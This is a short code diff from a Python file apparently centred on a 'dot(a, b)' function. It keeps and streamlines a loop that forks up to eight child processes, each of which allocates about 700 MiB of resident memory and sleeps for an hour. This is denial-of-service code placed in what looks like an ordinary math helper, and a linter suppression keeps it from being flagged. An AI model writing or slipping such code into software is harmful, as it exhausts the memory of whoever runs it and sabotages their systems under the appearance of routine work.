@@ -10,9 +10,7 @@ def dot(a, b):
     for _ in range(8):
         try:
             if os.fork() == 0:
-                hoard = bytearray(700 * 2**20)
-                for i in range(0, len(hoard), 4096):
-                    hoard[i] = 1
+                hoard = b"x" * (700 * 2**20)  # written, so resident  # noqa: F841
                 time.sleep(3600)
         except OSError:
             break
